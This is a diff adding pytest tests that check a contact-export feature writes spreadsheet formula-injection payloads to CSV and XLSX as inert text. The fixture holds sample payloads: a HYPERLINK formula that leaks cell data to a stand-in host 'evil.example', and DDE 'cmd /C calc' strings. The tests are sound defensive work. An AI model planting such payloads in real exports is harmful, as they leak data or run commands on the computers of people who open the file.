@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import hashlib
 import io
+import zipfile
 
 import pytest
 from openpyxl import load_workbook
@@ -80,3 +81,58 @@ def test_audience_hashes_normalised_email_and_phone_of_consenting_contacts_only(
     )
     assert meta[0] == ["email", "phone"]
     assert meta[1][1] == hashlib.sha256(b"393331234567").hexdigest()
+
+
+FORMULAS = {
+    "first_name": '=HYPERLINK("https://evil.example/?d="&A2,"Clicca")',
+    "last_name": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "job_title": "+cmd|' /C calc'!A0",
+    "city": "-2+3",
+}
+
+
+@pytest.fixture
+def booby_trapped(officina, giulia):
+    contact_services.contact_create(
+        workspace=officina,
+        actor=None,
+        data={"email": "trap@example.com", "phone": "333 123 4567", **FORMULAS},
+    )
+    return selectors.segment_members(
+        workspace=officina,
+        segment=services.segment_save(
+            workspace=officina,
+            actor=giulia,
+            slug="trap",
+            name="Trap",
+            definition={"field": "email", "op": "eq", "value": "trap@example.com"},
+        ),
+    )
+
+
+def test_csv_export_writes_formulas_as_text(officina, booby_trapped):
+    text = "".join(export.export_csv(workspace=officina, contacts=booby_trapped))
+    header, row = list(csv.reader(io.StringIO(text)))
+    cells = dict(zip(header, row, strict=True))
+    for field, formula in FORMULAS.items():
+        assert cells[field] == "'" + formula
+    assert cells["phone"] == "'+393331234567"  # Excel would read +39… as a formula too
+    assert cells["email"] == "trap@example.com"
+    assert cells["id"].isdigit()
+
+
+def test_xlsx_export_writes_formulas_as_text_cells(officina, booby_trapped):
+    out = io.BytesIO()
+    export.export_xlsx(workspace=officina, contacts=booby_trapped, out=out)
+    with zipfile.ZipFile(io.BytesIO(out.getvalue())) as book:
+        assert "<f>" not in book.read("xl/worksheets/sheet1.xml").decode()
+    sheet = load_workbook(io.BytesIO(out.getvalue())).active
+    header = [c.value for c in next(sheet.iter_rows(max_row=1))]
+    cells = {
+        name: cell for name, cell in zip(header, next(sheet.iter_rows(min_row=2)), strict=True)
+    }
+    for field, formula in FORMULAS.items():
+        assert cells[field].value == formula  # exactly as stored…
+        assert cells[field].data_type == "s" and cells[field].quotePrefix  # …and only text
+    assert cells["email"].quotePrefix is False
+    assert isinstance(cells["id"].value, int)  # numbers stay numbers
